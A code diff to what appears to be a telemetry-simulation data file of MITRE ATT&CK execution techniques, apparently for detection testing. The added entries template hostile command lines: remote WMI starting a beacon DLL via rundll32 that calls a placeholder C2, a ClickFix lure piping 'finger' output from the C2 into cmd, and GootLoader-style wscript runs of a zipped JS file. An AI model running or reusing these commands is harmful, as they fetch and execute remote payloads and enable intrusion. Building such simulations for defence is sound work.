@@ -10,22 +10,24 @@ export const execution = [
     "WMI execution",
     "wmic process call create locally or against a remote host, and Invoke-CimMethod; the payload starts under WmiPrvSE.exe.",
     [
+      // Ransomware staging: a beacon DLL already copied to the server is started through remote WMI.
       v(
         "wmic-remote",
         [
           {
-            cmd: 'wmic /node:"{{srv}}" process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\{{rand}}.txt"',
+            cmd: 'wmic /node:"{{srv}}" process call create "rundll32.exe C:\\ProgramData\\{{rand}}.dll,{{$entry}}"',
             net: [["@server", 135]],
           },
           {
-            cmd: "cmd.exe /c whoami > C:\\Windows\\Temp\\{{rand}}.txt",
+            cmd: "rundll32.exe C:\\ProgramData\\{{rand}}.dll,{{$entry}}",
             host: "@server",
             parent: "@wmiprvse",
             user: "@admin",
-            files: ["C:\\Windows\\Temp\\{{rand}}.txt"],
+            net: [["{{c2}}", 443]],
+            keep: true,
           },
         ],
-        { elevated: true },
+        { elevated: true, vars: { entry: "{{StartW|DllRegisterServer|Control_RunDLL}}" } },
       ),
       v("wmic-local", [
         'wmic process call create "{{tools}}\\{{name}}.exe"',
@@ -83,12 +85,6 @@ export const execution = [
       ),
     ],
   ),
-  t("T1053.002", "At", "Legacy at.exe jobs (Windows 7/2008 era and still accepted in some builds).", [
-    v("at", ["at 09:00 /interactive cmd.exe", "at \\\\{{srv}} 23:00 C:\\Windows\\Temp\\{{name}}.bat"], {
-      elevated: true,
-    }),
-    v("at-list", ["at", "at 14:32 {{tools}}\\{{name}}.exe"], { elevated: true }),
-  ]),
   t(
     "T1053.005",
     "Scheduled task",
@@ -162,6 +158,37 @@ export const execution = [
     "Windows command shell",
     "cmd.exe running batch scripts and chained commands from Office, services and implants.",
     [
+      // ClickFix lures (2025) paste this into Win+R: finger.exe fetches the next stage over TCP/79 and cmd runs it.
+      v(
+        "clickfix-finger",
+        [
+          {
+            cmd: 'cmd /c start "" /min cmd /c "finger {{rand}}@{{c2}} | cmd" && echo \'Verify you are human - press Enter\'',
+            parent: "@explorer",
+            as: "run",
+          },
+          {
+            by: "@explorer",
+            reg: [
+              [
+                "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
+                "a",
+                'cmd /c start "" /min cmd /c "finger {{rand}}@{{c2}} | cmd" && echo \'Verify you are human - press Enter\'\\1',
+              ],
+            ],
+          },
+          // start relaunches cmd minimised; cmd runs each side of the pipe in its own /S /D /c child.
+          { cmd: 'cmd  /c "finger {{rand}}@{{c2}} | cmd"', parent: "run", as: "mini" },
+          {
+            cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" finger {{rand}}@{{c2}} "',
+            parent: "mini",
+            as: "left",
+          },
+          { cmd: "finger  {{rand}}@{{c2}}", parent: "left", net: [["{{c2}}", 79]] },
+          { cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" cmd"', parent: "mini" },
+        ],
+        { shell: "none" },
+      ),
       v(
         "bat-from-explorer",
         [
@@ -239,16 +266,23 @@ export const execution = [
     ],
   ),
   t("T1059.007", "JavaScript", "JScript lures run by wscript, and mshta javascript: one-liners.", [
+    // GootLoader-style: the .js is opened from inside the downloaded ZIP, so Explorer extracts it to
+    // %TEMP%\Temp1_<zip>\ first and wscript runs it from there.
     v(
       "wscript-js",
       [
         {
-          cmd: 'wscript.exe "{{downloads}}\\{{Invoice|Payment|Scan}}_{{n}}.js"',
+          by: "@explorer",
+          reads: ["{{downloads}}\\{{$doc}}.zip"],
+          files: ["{{tmp}}\\Temp1_{{$doc}}.zip\\{{$doc}}.js"],
+        },
+        {
+          cmd: '"C:\\Windows\\System32\\WScript.exe" "{{tmp}}\\Temp1_{{$doc}}.zip\\{{$doc}}.js"',
           parent: "@explorer",
           net: [["{{c2}}", 443]],
         },
       ],
-      { shell: "none" },
+      { shell: "none", vars: { doc: "{{Invoice|Payment|Scan|agreement}}_{{n}}" } },
     ),
     v("cscript-jse", ["cscript.exe //E:jscript {{tmp}}\\{{rand}}.txt"]),
     v("mshta-javascript", [
